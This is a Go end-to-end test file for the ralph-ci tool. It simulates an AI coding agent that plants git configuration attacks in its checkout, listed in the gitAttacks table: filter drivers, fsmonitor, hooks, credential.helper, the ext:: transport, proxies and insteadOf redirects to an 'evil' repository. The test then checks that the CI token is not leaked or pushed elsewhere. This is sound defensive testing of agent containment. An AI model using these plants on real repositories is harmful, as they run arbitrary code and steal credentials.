package delivery

import (
	"context"
	"encoding/base64"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ralph-ci/ralph-ci/cmd/ralph-ci/internal/e2e"
	"github.com/ralph-ci/ralph-ci/internal/ghorigin"
)

// The agent attacks ralph-ci's git. In the simulated pull_request job of
// the delivery tests (--deliver pr, an HTTP origin that requires the
// token, the token persisted in .git/config by actions/checkout), the
// agent's first rotation plants one way git could run a program, read
// another configuration or talk to another server, then writes its work.
// Whatever it planted: the token reaches no program the agent named (the
// canary records the environment and arguments of every run of it),
// nothing is pushed anywhere but origin, and the run delivers the work to
// the pull request's branch or refuses with a non-zero exit (not 3, the
// limit) and a reason.

// attackAgent plants ($OUT/plant.sh) and works in its first rotation.
const attackAgent = `cat > /dev/null
if [ "$RALPH_ITERATION" = 1 ]; then
  ORIGIN=$(git remote get-url origin)
  export ORIGIN
  sh "$OUT/plant.sh" > "$OUT/plant.log" 2>&1
  echo "work of the attacker" > work.txt
  echo "RALPH_STATUS: CONTINUE"
else
  echo "<promise>IMPLEMENTATION_COMPLETE</promise>"
  echo "RALPH_STATUS: DONE"
fi
`

// gitHooks are the hooks git knows (githooks(5)).
const gitHooks = "applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit post-index-change"

// gitAttacks are the plants, as shell run in the checkout: $CANARY and
// $CANARY_FILTER name the canary (the second passes its input through, as
// a filter), $OUT is a folder of the agent's outside the checkout, $EVIL
// the file:// URL of a bare repository of the agent's, $PROXY a proxy
// that records what reaches it, $ORIGIN origin's URL.
var gitAttacks = []struct{ name, plant string }{
	{"clean and smudge filter in .gitattributes", `printf '* filter=evil\n' > .gitattributes
git config filter.evil.clean "$CANARY_FILTER clean"; git config filter.evil.smudge "$CANARY_FILTER smudge"; git config filter.evil.required true`},
	{"filter in .git/info/attributes", `mkdir -p .git/info; printf '* filter=evil\n' > .git/info/attributes
git config filter.evil.clean "$CANARY_FILTER clean"; git config filter.evil.smudge "$CANARY_FILTER smudge"`},
	{"core.fsmonitor", `git config core.fsmonitor "$CANARY"`},
	{"include.path", `printf '[core]\n\tfsmonitor = %s\n[url "%s"]\n\tinsteadOf = %s\n' "$CANARY" "$EVIL" "$ORIGIN" > "$OUT/evil.config"
git config include.path "$OUT/evil.config"`},
	{"includeIf", `printf '[core]\n\tfsmonitor = %s\n[remote "origin"]\n\tpushurl = %s\n' "$CANARY" "$EVIL" > "$OUT/evil.config"
git config "includeIf.gitdir:$PWD/.path" "$OUT/evil.config"`},
	{"worktree config", `git config extensions.worktreeConfig true
git config --worktree core.fsmonitor "$CANARY"; git config --worktree core.hooksPath "$OUT/hooks"
mkdir -p "$OUT/hooks"; for h in ` + gitHooks + `; do cp "$CANARY" "$OUT/hooks/$h"; done`},
	{".git file naming another git directory", `cp -R .git "$OUT/evil.git"
git --git-dir="$OUT/evil.git" config core.fsmonitor "$CANARY"
git --git-dir="$OUT/evil.git" config remote.origin.pushurl "$EVIL"
for h in ` + gitHooks + `; do cp "$CANARY" "$OUT/evil.git/hooks/$h"; done
rm -rf .git; echo "gitdir: $OUT/evil.git" > .git`},
	{"every hook and core.hooksPath", `mkdir -p "$OUT/hooks" .git/hooks
for h in ` + gitHooks + `; do cp "$CANARY" ".git/hooks/$h"; cp "$CANARY" "$OUT/hooks/$h"; done
git config core.hooksPath "$OUT/hooks"`},
	{"gpg.program with signing on", `git config gpg.program "$CANARY"; git config gpg.ssh.program "$CANARY"
git config commit.gpgSign true; git config tag.gpgSign true; git config push.gpgSign true`},
	{"remote.origin.pushurl, receivepack and uploadpack", `git config remote.origin.pushurl "$EVIL"
git config remote.origin.receivepack "$CANARY"; git config remote.origin.uploadpack "$CANARY"`},
	{"the ext:: transport", `git config remote.origin.url "ext::$CANARY %S"; git config protocol.ext.allow always; git config protocol.allow always`},
	{"core.sshCommand", `git config remote.origin.url "ssh://git@127.0.0.1:1/x.git"; git config core.sshCommand "$CANARY"; git config ssh.variant ssh`},
	{"core.askPass and credential.helper", `git config core.askPass "$CANARY"; git config credential.helper "!$CANARY"; git config credential.useHttpPath true`},
	{"http.proxy", `git config http.proxy "$PROXY"; git config "http.$ORIGIN.proxy" "$PROXY"`},
	{"url.insteadOf", `git config "url.$EVIL.insteadOf" "$ORIGIN"`},
	{"url.pushInsteadOf", `git config "url.$EVIL.pushInsteadOf" "$ORIGIN"`},
	{"diff.external", `git config diff.external "$CANARY"`},
	{"textconv", `printf '* diff=evil\n' > .gitattributes; git config diff.evil.textconv "$CANARY"; git config diff.evil.command "$CANARY"`},
	{"merge driver", `printf '* merge=evil\n' > .gitattributes; git config merge.evil.driver "$CANARY %O %A %B"`},
	{"objects/info/alternates", `mkdir -p "$OUT/alt/objects/info" .git/objects/info; echo "$OUT/alt/objects" > .git/objects/info/alternates`},
	{"replace refs", `c=$(git -c user.name=a -c user.email=a@a commit-tree "HEAD^{tree}" -m "a replacement" -m "Ralph-Spec: x"); git replace -f HEAD "$c"`},
	{"trailer.separators", `git config trailer.separators '#'`},
}

// canary records every run of it: its arguments and environment.
const canary = `#!/bin/sh
{ echo "== $0 $*"; env; } >> %s
case "$0" in *filter*) exec cat ;; esac
exit 1
`

func TestAgentPlantsInGit(t *testing.T) {
	bin := e2e.RalphBinary(t)
	files := maps.Clone(e2e.CIRepoFiles)
	// box.user off: as root's run's user of its own (the default) the
	// agent cannot reach ralph-ci's git folder at all; these attacks test
	// what holds without it.
	files["ralph.yaml"] += "specs: {default_tier: auto}\nbox: {user: off}\n"
	files["specs/a.spec.md"] = "# A\n"
	files["agent.sh"] = attackAgent
	header := base64.StdEncoding.EncodeToString([]byte("x-access-token:test-token"))
	for _, a := range gitAttacks {
		t.Run(a.name, func(t *testing.T) {
			out := e2e.RecordDir(t)
			log := filepath.Join(out, "canary.log")
			for _, name := range []string{"canary", "canary-filter"} {
				if err := os.WriteFile(filepath.Join(out, name), []byte(strings.Replace(canary, "%s", log, 1)), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			if err := os.WriteFile(filepath.Join(out, "plant.sh"), []byte(a.plant), 0o644); err != nil {
				t.Fatal(err)
			}
			evil := filepath.Join(out, "evil-origin.git")
			ghorigin.Git(t, out, "init", "--quiet", "--bare", evil)
			var proxied atomic.Int64
			proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				proxied.Add(1)
				http.Error(w, "no", http.StatusBadGateway)
			}))
			defer proxy.Close()

			w := e2e.NewCIWorld(t, bin, files, e2e.HTTPOrigin)
			w.ExtraEnv = append(w.ExtraEnv, "OUT="+out, "CANARY="+filepath.Join(out, "canary"),
				"CANARY_FILTER="+filepath.Join(out, "canary-filter"), "EVIL=file://"+evil, "PROXY="+proxy.URL)
			w.Job("", "")
			ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
			defer cancel()
			cmd, stdout, stderr := w.Command(ctx, "run", "--deliver", "pr", "--max-rotations", "1")
			err := cmd.Run()
			code := cmd.ProcessState.ExitCode()
			planted, _ := os.ReadFile(filepath.Join(out, "plant.log"))
			t.Logf("exit %d; the plant said: %s", code, planted)

			if raw, _ := os.ReadFile(log); strings.Contains(string(raw), "test-token") || strings.Contains(string(raw), header) {
				t.Errorf("the token reached a program the agent named:\n%s", raw)
			}
			if refs := ghorigin.Git(t, evil, "for-each-ref"); refs != "" {
				t.Errorf("ralph-ci pushed to the agent's repository:\n%s", refs)
			}
			if n := proxied.Load(); n > 0 {
				t.Errorf("ralph-ci's git went through the agent's proxy (%d requests)", n)
			}
			delivered := false
			if work, err := exec.Command("git", "-C", w.Bare, "show", "refs/heads/changes:work.txt").Output(); err == nil {
				delivered = strings.TrimSpace(string(work)) == "work of the attacker"
			}
			switch {
			case delivered:
			case err == nil || code == 0 || code == 3:
				t.Errorf("exit %d and nothing delivered:\n%s\n%s", code, stdout, stderr)
			case !strings.Contains(stderr.String(), `"level":"error"`) && !strings.Contains(stderr.String(), "ralph-ci:"):
				t.Errorf("exit %d without a reason:\n%s", code, stderr)
			}
		})
	}
}
